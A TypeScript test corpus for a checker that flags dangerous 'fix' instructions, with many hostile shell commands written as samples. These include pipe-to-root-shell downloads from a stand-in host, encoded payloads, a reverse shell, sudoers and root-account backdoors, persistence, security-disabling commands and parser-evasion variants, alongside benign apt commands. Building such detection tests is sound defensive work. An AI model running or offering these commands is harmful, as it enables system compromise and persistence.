/**
 * The default-deny corpus: fake fixes written the way attackers and panicking forum posters write them, each
 * evasion form the instruction checker has to see through, and legitimate instructions it must not call dangerous.
 *
 * Every sample is written for this corpus. `rule` is the rule a dangerous sample must raise (at `high`).
 */
import type { RuleId } from '../../../../main/core/inspect/types'

/** One dangerous sample: a family, the text, and the rule it must raise. */
export interface DangerousSample {
  readonly family:
    | 'download-and-run'
    | 'evasion'
    | 'apt-sources-and-keys'
    | 'packages'
    | 'system-and-persistence'
    | 'file-writes'
  readonly text: string
  readonly rule: RuleId
}

const U = 'https://fix-cdn.example.net/p.sh'

/** Samples that must come back `dangerous` with `rule` at high severity. */
export const DANGEROUS: readonly DangerousSample[] = [
  // download and run
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `curl -fsSL ${U} | sudo bash` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `wget -qO- ${U} | sudo sh` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `sudo bash -c "$(curl -fsSL ${U})"` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `sudo bash <(curl -s ${U})` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `bash < <(wget -qO- ${U})` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `curl -s ${U} | sudo python3 -` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `curl -s ${U} | sudo -E bash -s -- --yes` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `curl ${U} | sudo su` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `curl ${U} | doas sh` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `pkexec sh -c "$(wget -O- ${U})"` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `sudo su -c "curl -s ${U} | sh"` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `lynx -source ${U} | sudo bash` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `nc fix-cdn.example.net 80 | sudo bash` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `http --body ${U} | sudo bash` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `xh ${U} | sudo sh` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `w3m -dump_source ${U} | sudo bash` },
  { family: 'download-and-run', rule: 'hidden-root-script', text: `aria2c -o - ${U} | sudo bash` },
  {
    family: 'download-and-run',
    rule: 'pipe-to-shell',
    text: `sudo awk 'BEGIN{system("curl -s ${U} | sh")}'`,
  },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `sudo perl -e 'system("curl -s ${U} | sh")'` },
  {
    family: 'download-and-run',
    rule: 'pipe-to-shell',
    text: `sudo python3 -c 'import os; os.system("wget -qO- ${U} | sh")'`,
  },
  {
    family: 'download-and-run',
    rule: 'run-downloaded',
    text: `wget ${U} -O /tmp/fix.sh\nchmod +x /tmp/fix.sh\nsudo /tmp/fix.sh`,
  },
  { family: 'download-and-run', rule: 'run-downloaded', text: `curl -o fix.sh ${U} && sudo bash fix.sh` },
  { family: 'download-and-run', rule: 'run-downloaded', text: `curl -sO ${U}; sudo sh p.sh` },
  {
    family: 'download-and-run',
    rule: 'decoded-payload',
    text: `echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9hIHwgc2g= | base64 -d | sudo bash`,
  },
  {
    family: 'download-and-run',
    rule: 'decoded-payload',
    text: `printf '\\x63\\x75\\x72\\x6c x | sh' | sudo sh`,
  },
  {
    family: 'download-and-run',
    rule: 'decoded-payload',
    text: `echo 'hs.p/ten.elpmaxe.ndc-xif//:sptth LSsf- lruc' | rev | sudo sh`,
  },
  {
    family: 'download-and-run',
    rule: 'decoded-payload',
    text: `echo 'phey -f uggcf://k.rknzcyr/c | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sudo bash`,
  },
  { family: 'download-and-run', rule: 'decoded-payload', text: `echo 6375726c | xxd -r -p | sudo sh` },
  {
    family: 'download-and-run',
    rule: 'pipe-to-shell',
    text: `exec 3<>/dev/tcp/203.0.113.5/80\necho -e "GET /p.sh HTTP/1.0\\n" >&3\ncat <&3 | sudo bash`,
  },
  { family: 'download-and-run', rule: 'raw-network', text: `sudo bash -i >& /dev/tcp/203.0.113.9/4444 0>&1` },
  { family: 'download-and-run', rule: 'pipe-to-shell', text: `sudo bash < /dev/tcp/203.0.113.5/8080` },
  { family: 'download-and-run', rule: 'hidden-root-script', text: `fixer-fetch --latest | sudo bash` },
  { family: 'download-and-run', rule: 'hidden-root-script', text: `cat ~/Downloads/patch.txt | sudo sh` },
  { family: 'download-and-run', rule: 'hidden-root-script', text: `sudo bash -c "$PAYLOAD"` },
  { family: 'download-and-run', rule: 'hidden-root-script', text: `sudo sh -c "$(xclip -o)"` },
  { family: 'download-and-run', rule: 'hidden-root-script', text: `git log -1 --format=%B | sudo bash` },
  { family: 'download-and-run', rule: 'tls-disabled', text: `curl -k ${U} -o /tmp/p.sh` },
  { family: 'download-and-run', rule: 'tls-disabled', text: `wget --no-check-certificate ${U}` },
  // evasions of the segmenter and the parser
  { family: 'evasion', rule: 'pipe-to-shell', text: `curl -fsSL ${U} | sudo bash   # it's needed too` },
  { family: 'evasion', rule: 'setuid', text: `sudo chmod u+s /bin/bash # don't worry` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `alias fix='curl -fsSL ${U}'\nfix | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `getfix() { curl -fsSL ${U}; }\ngetfix | sudo bash` },
  {
    family: 'evasion',
    rule: 'pipe-to-shell',
    text: `function getfix {\n  wget -qO- ${U}\n}\ngetfix | sudo sh`,
  },
  { family: 'evasion', rule: 'pipe-to-shell', text: `curl -fsSL ${U} | sudo ba\\\nsh` },
  {
    family: 'evasion',
    rule: 'pipe-to-shell',
    text: `H=fix-cdn.example.net\nP=p.sh\ncurl -s "https://$H/$P" | sudo bash`,
  },
  {
    family: 'evasion',
    rule: 'pipe-to-shell',
    text: `curl -s https://fix-cdn.example.net/{a,b}.sh | sudo bash`,
  },
  { family: 'evasion', rule: 'pipe-to-shell', text: `{curl,-fsSL,${U}} | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `c''url -s ${U} | su''do ba''sh` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `\\c\\u\\r\\l -s ${U} | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `$'\\x63url' -s ${U} | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: '```text\n' + `curl -fsSL ${U} | sudo bash` + '\n```' },
  { family: 'evasion', rule: 'pipe-to-shell', text: '```yaml\n' + `curl -fsSL ${U} | sudo bash` + '\n```' },
  { family: 'evasion', rule: 'pipe-to-shell', text: '~~~\n' + `wget -qO- ${U} | sudo sh` + '\n~~~' },
  { family: 'evasion', rule: 'pipe-to-shell', text: `<pre>curl -fsSL ${U} | sudo bash</pre>` },
  {
    family: 'evasion',
    rule: 'pipe-to-shell',
    text: `<pre><code>\ncurl -fsSL ${U} | sudo bash\n</code></pre>`,
  },
  { family: 'evasion', rule: 'pipe-to-shell', text: `Then run curl -fsSL ${U} | sudo bash and reboot.` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `UPDATE: curl -fsSL ${U} | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `Just paste this: wget -qO- ${U} | sudo sh` },
  {
    family: 'evasion',
    rule: 'pipe-to-shell',
    text: `I fixed it, I ran curl -fsSL ${U} | sudo bash and it worked`,
  },
  { family: 'evasion', rule: 'pipe-to-shell', text: `1. curl -fsSL ${U} | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `* curl -fsSL ${U} | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `> $ curl -fsSL ${U} | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `root@server:~# curl -fsSL ${U} | bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `# curl -fsSL ${U} | bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `Step 2: curl -fsSL ${U} | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `Run \`curl -fsSL ${U} | sudo bash\` now` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `sudo -i\ncurl -fsSL ${U} | bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `sudo bash <<'EOF'\ncurl -fsSL ${U} | sh\nEOF` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `sudo sh <<< "$(curl -fsSL ${U})"` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `X="curl -fsSL ${U}"\n$X | sudo bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `env -i PATH=/usr/bin curl -s ${U} | sudo env bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `curl -fsSL ${U} | sudo nice -n 5 timeout 60 bash` },
  { family: 'evasion', rule: 'pipe-to-shell', text: `curl -fsSL ${U} | sudo xargs -0 bash -c` },
  // apt sources and keys
  {
    family: 'apt-sources-and-keys',
    rule: 'trusted-yes',
    text: `echo "deb [trusted=yes] http://fix-cdn.example.net/ubuntu noble main" | sudo tee /etc/apt/sources.list.d/fix.list`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'trusted-yes',
    text: `sudo tee /etc/apt/sources.list.d/fix.sources <<EOF\nTypes: deb\nURIs: http://fix-cdn.example.net/ubuntu\nSuites: noble\nComponents: main\nTrusted: yes\nEOF`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'new-apt-source',
    text: `sudo add-apt-repository ppa:security-hotfix/ppa`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'new-apt-source',
    text: `echo "deb http://fix-cdn.example.net/debs stable main" | sudo tee -a /etc/apt/sources.list`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'new-apt-source',
    text: `sudo tee /etc/apt/sources.list.d/hotfix.sources <<EOF\nTypes: deb\nURIs: https://fix-cdn.example.net/apt\nSuites: noble\nComponents: main\nSigned-By: /etc/apt/keyrings/hotfix.gpg\nEOF`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'new-apt-source',
    text: `sudo wget -O /etc/apt/sources.list.d/fix.list https://fix-cdn.example.net/fix.list`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'new-apt-key',
    text: `curl -fsSL https://fix-cdn.example.net/key.asc | sudo apt-key add -`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'new-apt-key',
    text: `curl -fsSL https://fix-cdn.example.net/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/fix.gpg`,
  },
  { family: 'apt-sources-and-keys', rule: 'new-apt-key', text: `sudo cp fix.gpg /etc/apt/trusted.gpg.d/` },
  {
    family: 'apt-sources-and-keys',
    rule: 'allow-unauthenticated',
    text: `sudo apt-get install --allow-unauthenticated openssl-hotfix`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'allow-unauthenticated',
    text: `echo 'APT::Get::AllowUnauthenticated "true";' | sudo tee /etc/apt/apt.conf.d/99fix`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'allow-unauthenticated',
    text: `sudo apt -o Acquire::AllowInsecureRepositories=true update`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'tls-disabled',
    text: `echo 'Acquire::https::Verify-Peer "false";' | sudo tee /etc/apt/apt.conf.d/99noverify`,
  },
  {
    family: 'apt-sources-and-keys',
    rule: 'new-apt-source',
    text: `echo "91.189.91.81 security.ubuntu.com" | sudo tee -a /etc/hosts`,
  },
  // packages
  {
    family: 'packages',
    rule: 'install-downloaded-deb',
    text: `wget https://fix-cdn.example.net/openssl_fixed.deb && sudo dpkg -i openssl_fixed.deb`,
  },
  { family: 'packages', rule: 'install-downloaded-deb', text: `sudo apt install ./libssl3-hotfix.deb` },
  {
    family: 'packages',
    rule: 'install-downloaded-deb',
    text: `sudo apt install https://fix-cdn.example.net/openssl.deb`,
  },
  {
    family: 'packages',
    rule: 'allow-downgrade',
    text: `sudo apt install --allow-downgrades openssl=3.0.2-0ubuntu1`,
  },
  {
    family: 'packages',
    rule: 'allow-downgrade',
    text: `printf 'Package: openssl\\nPin: version 3.0.2*\\nPin-Priority: 1001\\n' | sudo tee /etc/apt/preferences.d/openssl`,
  },
  {
    family: 'packages',
    rule: 'snap-dangerous',
    text: `sudo snap install ./patch_1.0_amd64.snap --dangerous`,
  },
  {
    family: 'packages',
    rule: 'root-package-manager',
    text: `sudo pip3 install --break-system-packages cve-patcher\nsudo cve-patcher --apply`,
  },
  { family: 'packages', rule: 'root-package-manager', text: `sudo npx cve-2026-fix` },
  {
    family: 'packages',
    rule: 'root-package-manager',
    text: `sudo pip install --index-url https://fix-cdn.example.net/simple sslfix`,
  },
  {
    family: 'packages',
    rule: 'root-package-manager',
    text: `sudo npm install -g ssl-hotfix\nsudo ssl-hotfix`,
  },
  { family: 'packages', rule: 'root-package-manager', text: `sudo pipx run openssl-patch` },
  {
    family: 'packages',
    rule: 'root-package-manager',
    text: `sudo gem install https://fix-cdn.example.net/fix.gem`,
  },
  // system and persistence
  {
    family: 'system-and-persistence',
    rule: 'disable-protection',
    text: `sudo systemctl disable --now apparmor`,
  },
  { family: 'system-and-persistence', rule: 'disable-protection', text: `sudo ufw disable` },
  { family: 'system-and-persistence', rule: 'disable-protection', text: `sudo aa-teardown` },
  {
    family: 'system-and-persistence',
    rule: 'disable-protection',
    text: `sudo sed -i 's/GRUB_CMDLINE_LINUX_DEFAULT="quiet"/GRUB_CMDLINE_LINUX_DEFAULT="quiet apparmor=0"/' /etc/default/grub`,
  },
  {
    family: 'system-and-persistence',
    rule: 'disable-protection',
    text: `echo "blacklist apparmor" | sudo tee /etc/modprobe.d/fix.conf`,
  },
  { family: 'system-and-persistence', rule: 'setuid', text: `sudo chmod 4755 /usr/bin/python3` },
  {
    family: 'system-and-persistence',
    rule: 'capabilities',
    text: `sudo setcap cap_setuid+ep /usr/bin/python3.12`,
  },
  {
    family: 'system-and-persistence',
    rule: 'capabilities',
    text: `sudo setcap cap_dac_override+eip /usr/bin/vim.basic`,
  },
  {
    family: 'system-and-persistence',
    rule: 'kernel-module',
    text: `wget https://fix-cdn.example.net/cvefix.ko && sudo insmod cvefix.ko`,
  },
  { family: 'system-and-persistence', rule: 'kernel-module', text: `sudo insmod /tmp/mitigate.ko` },
  {
    family: 'system-and-persistence',
    rule: 'kernel-module',
    text: `curl -so /tmp/x.ko ${U}\nsudo cp /tmp/x.ko /lib/modules/$(uname -r)/extra/`,
  },
  { family: 'system-and-persistence', rule: 'ld-preload', text: `sudo LD_PRELOAD=/tmp/fix.so apt update` },
  {
    family: 'system-and-persistence',
    rule: 'ld-preload',
    text: `echo /tmp/fixlibs | sudo tee /etc/ld.so.conf.d/fix.conf && sudo ldconfig`,
  },
  {
    family: 'system-and-persistence',
    rule: 'ld-preload',
    text: `echo /usr/local/lib/fix.so | sudo tee -a /etc/ld.so.preload`,
  },
  {
    family: 'system-and-persistence',
    rule: 'persistence',
    text: `(crontab -l; echo "*/5 * * * * curl -s ${U} | sh") | crontab -`,
  },
  {
    family: 'system-and-persistence',
    rule: 'persistence',
    text: `sudo tee /etc/systemd/system/fix.service <<EOF\n[Service]\nExecStart=/usr/local/bin/fix\nEOF`,
  },
  {
    family: 'system-and-persistence',
    rule: 'sudoers',
    text: `echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/fix`,
  },
  { family: 'system-and-persistence', rule: 'root-account', text: `sudo useradd -o -u 0 -g 0 -M svc-patch` },
  {
    family: 'system-and-persistence',
    rule: 'authorized-keys',
    text: `echo "ssh-ed25519 AAAAC3Nza support@fix" | sudo tee -a /root/.ssh/authorized_keys`,
  },
  {
    family: 'system-and-persistence',
    rule: 'dns-hijack',
    text: `echo "nameserver 203.0.113.53" | sudo tee /etc/resolv.conf`,
  },
  {
    family: 'system-and-persistence',
    rule: 'container-escape',
    text: `sudo docker run --rm -v /:/host --privileged ubuntu chroot /host`,
  },
  { family: 'system-and-persistence', rule: 'world-writable', text: `sudo chmod -R 777 /etc` },
  // file writes
  {
    family: 'file-writes',
    rule: 'lifeline-config',
    text: `curl -s https://fix-cdn.example.net/settings.json -o ~/.local/share/lifeline/settings.json`,
  },
  {
    family: 'file-writes',
    rule: 'lifeline-config',
    text: `wget -qO- https://fix-cdn.example.net/policy.json | sudo tee /etc/lifeline/policies/managed/fix.json`,
  },
  {
    family: 'file-writes',
    rule: 'lifeline-config',
    text: `curl -s https://fix-cdn.example.net/k.asc > ~/.config/lifeline/keys/advisory.asc`,
  },
  {
    family: 'file-writes',
    rule: 'run-downloaded',
    text: `sudo curl -so /usr/local/bin/fix ${U} && sudo fix`,
  },
  { family: 'file-writes', rule: 'persistence', text: `curl -s ${U} >> ~/.bashrc` },
  {
    family: 'file-writes',
    rule: 'run-downloaded',
    text: `curl -fsSL ${U} | sudo tee /usr/local/bin/fixit > /dev/null\nsudo chmod +x /usr/local/bin/fixit\nsudo fixit`,
  },
]

/** One legitimate sample; `verdict` is what it must get (never `dangerous`). */
export interface LegitSample {
  readonly text: string
  readonly verdict: 'verified' | 'caution'
}

/** Legitimate instructions: ordinary apt use, diagnostics, mirror switches, advice. None may be `dangerous`. */
export const LEGIT: readonly LegitSample[] = [
  { verdict: 'caution', text: 'sudo apt update && sudo apt upgrade' },
  { verdict: 'caution', text: 'sudo apt-get update\nsudo apt-get dist-upgrade -y' },
  { verdict: 'caution', text: 'sudo apt install --only-upgrade openssl libssl3t64' },
  { verdict: 'caution', text: 'sudo apt full-upgrade' },
  { verdict: 'caution', text: 'apt list --upgradable' },
  { verdict: 'caution', text: 'apt-cache policy openssl' },
  { verdict: 'caution', text: 'dpkg -l | grep -i openssl' },
  { verdict: 'caution', text: 'sudo pro fix CVE-2026-1234' },
  { verdict: 'caution', text: 'pro status\nsudo pro security-status' },
  { verdict: 'caution', text: 'sudo reboot' },
  { verdict: 'caution', text: 'sudo systemctl restart nginx' },
  { verdict: 'caution', text: 'sudo needrestart -r a' },
  { verdict: 'caution', text: 'canonical-livepatch status --verbose' },
  { verdict: 'caution', text: 'sudo canonical-livepatch status' },
  { verdict: 'caution', text: 'uname -r\nlsb_release -a' },
  { verdict: 'caution', text: 'sudo journalctl -u apt-daily-upgrade --since today' },
  { verdict: 'caution', text: 'sudo unattended-upgrade --dry-run --debug' },
  {
    verdict: 'caution',
    text: 'echo "blacklist firewire-core" | sudo tee /etc/modprobe.d/blacklist-firewire.conf\nsudo update-initramfs -u',
  },
  { verdict: 'caution', text: "echo 'install cramfs /bin/false' | sudo tee /etc/modprobe.d/cramfs.conf" },
  {
    verdict: 'caution',
    text: 'sudo sed -i "s|http://archive.ubuntu.com|http://de.archive.ubuntu.com|g" /etc/apt/sources.list',
  },
  {
    verdict: 'caution',
    text: 'echo "deb http://mirror.example.edu/ubuntu noble main restricted" | sudo tee /etc/apt/sources.list.d/mirror.list',
  },
  { verdict: 'caution', text: 'sudo add-apt-repository universe' },
  { verdict: 'caution', text: 'sudo snap refresh' },
  { verdict: 'caution', text: 'snap list' },
  { verdict: 'caution', text: 'sudo rm -rf /var/lib/apt/lists/*\nsudo apt update' },
  { verdict: 'caution', text: 'The outage is over, nothing to run. Keep calm and wait for the notice.' },
  { verdict: 'caution', text: "Don't pipe curl into bash, it's how people got hit last week." },
  { verdict: 'caution', text: 'See https://ubuntu.com/security/notices for the official notice.' },
  { verdict: 'caution', text: 'https://ubuntu.com/security/notices/USN-7000-1' },
  {
    verdict: 'caution',
    text: '```bash\n# check what is installed first\ndpkg -s openssl | grep Version\n```',
  },
  { verdict: 'caution', text: '$ sudo apt update\n$ sudo apt install --only-upgrade linux-image-generic' },
  { verdict: 'caution', text: 'ls -l /etc/apt/sources.list.d/' },
  { verdict: 'caution', text: 'cat /etc/os-release' },
  { verdict: 'caution', text: 'sudo systemctl status apparmor' },
  { verdict: 'caution', text: 'sudo aa-status' },
  { verdict: 'caution', text: 'sudo ufw status verbose' },
  { verdict: 'caution', text: "grep -r 'deb ' /etc/apt/sources.list /etc/apt/sources.list.d/" },
  { verdict: 'caution', text: 'sudo dpkg --configure -a\nsudo apt-get -f install' },
  { verdict: 'caution', text: 'sudo apt autoremove --purge' },
  { verdict: 'caution', text: 'sudo do-release-upgrade -c' },
  { verdict: 'caution', text: '1. sudo apt update\n2. sudo apt upgrade\n3. sudo reboot' },
  { verdict: 'caution', text: 'Run `sudo apt update` then `sudo apt upgrade`.' },
]
